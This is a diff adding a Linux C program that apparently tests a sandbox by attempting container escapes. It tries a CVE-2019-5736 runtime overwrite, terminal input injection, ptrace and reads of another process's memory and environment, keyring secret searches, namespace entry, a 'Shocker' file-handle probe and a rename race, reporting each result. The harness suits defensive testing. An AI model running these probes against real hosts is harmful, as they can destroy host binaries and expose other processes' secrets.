@@ -1,0 +1,122 @@
+/* Attacks that a shell has no word for: attack NAME ARGS…, each saying what came of it. Linux, static.
+ *
+ * Started as "/proc/self/exe" or as the dynamic loader of a program of the host's, it takes a handle on that program.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int said(const char *what, long answer) {
+  int error = errno;
+  printf("%s: %s\n", what, answer < 0 ? strerror(error) : "done");
+  return answer < 0;
+}
+
+/* CVE-2019-5736: the program behind the handle is to be overwritten. */
+static int overwrite(const char *path) {
+  char target[4096];
+  ssize_t length = readlink(path, target, sizeof target - 1);
+  target[length < 0 ? 0 : length] = 0;
+  printf("target: %s\n", target);
+  said("truncate", open(path, O_WRONLY | O_TRUNC));
+  said("append", open(path, O_WRONLY | O_APPEND));
+  said("chmod", chmod(path, 0777));
+  return said("access", access(path, W_OK));
+}
+
+static int take_the_runtime(void) {
+  char path[64];
+  int fd = open("/proc/self/exe", O_PATH);
+  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+  execl("/attack", "attack", "overwrite", path, (char *)NULL);
+  return said("exec", -1);
+}
+
+/* Put a character into a terminal's input, and take the terminal over. */
+static int terminal(int fd) {
+  int taken = ioctl(fd, TIOCSCTTY, 1);
+  said("TIOCSCTTY", taken);
+  int put = ioctl(fd, TIOCSTI, "!");
+  said("TIOCSTI", put);
+  int tty = open("/dev/tty", O_RDWR);
+  said("/dev/tty", tty);
+  char paste[] = {3};
+  said("TIOCLINUX", ioctl(fd, TIOCLINUX, paste));
+  return put < 0 && taken < 0;
+}
+
+static int process(pid_t pid) {
+  char data[8], path[64];
+  struct iovec here = {data, sizeof data}, there = {&data, sizeof data};
+  static const char *const files[] = {"mem", "environ", "root/etc/passwd", "cwd", "fd", "ns/mnt", "maps", "exe"};
+  said("ptrace", ptrace(PTRACE_SEIZE, pid, 0, 0));
+  said("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0));
+  long fd = syscall(SYS_pidfd_open, pid, 0);
+  said("pidfd_open", fd);
+  said("pidfd_getfd", syscall(SYS_pidfd_getfd, (int)fd, 0, 0));
+  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
+    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
+    said(files[i], open(path, O_RDONLY));
+  }
+  return 0;
+}
+
+static int keyrings(const char *name) {
+  said("join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL, 0, 0, 0));
+  said("add", syscall(SYS_add_key, "user", "cove-attack", "x", 1, KEY_SPEC_PROCESS_KEYRING));
+  return said("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0));
+}
+
+/* The secret in the session keyring that this process was born with. */
+static int secret(const char *name) {
+  return said("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0));
+}
+
+static int enter(const char *path) {
+  int fd = open(path, O_RDONLY);
+  if (fd < 0) return said("open", fd);
+  return said("setns", syscall(SYS_setns, fd, 0));
+}
+
+/* "Shocker": a file of the host's by its handle, where the inode number of a file system's root is always the same. */
+static int by_handle(void) {
+  struct {
+    unsigned bytes;
+    int type;
+    unsigned char data[8];
+  } handle = {8, 1, {2}}; /* struct file_handle */
+  int fd = open("/etc/hostname", O_RDONLY);
+  return said("open_by_handle_at", syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY));
+}
+
+/* Swap two names for ever: what was looked at is another thing when it is used. */
+static int swap(const char *first, const char *second) {
+  for (;;)
+    if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, 2 /* RENAME_EXCHANGE */) < 0) return said("swap", -1);
+}
+
+int main(int argc, char **argv) {
+  setvbuf(stdout, NULL, _IONBF, 0);
+  if (argc < 2 || !strcmp(argv[0], "/proc/self/exe")) return take_the_runtime();
+  if (!strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
+  if (!strcmp(argv[1], "terminal")) return terminal(atoi(argv[2]));
+  if (!strcmp(argv[1], "process")) return process(atoi(argv[2]));
+  if (!strcmp(argv[1], "keyrings")) return keyrings(argv[2]);
+  if (!strcmp(argv[1], "secret")) return secret(argv[2]);
+  if (!strcmp(argv[1], "enter")) return enter(argv[2]);
+  if (!strcmp(argv[1], "handle")) return by_handle();
+  if (!strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
+  return 2;
+}
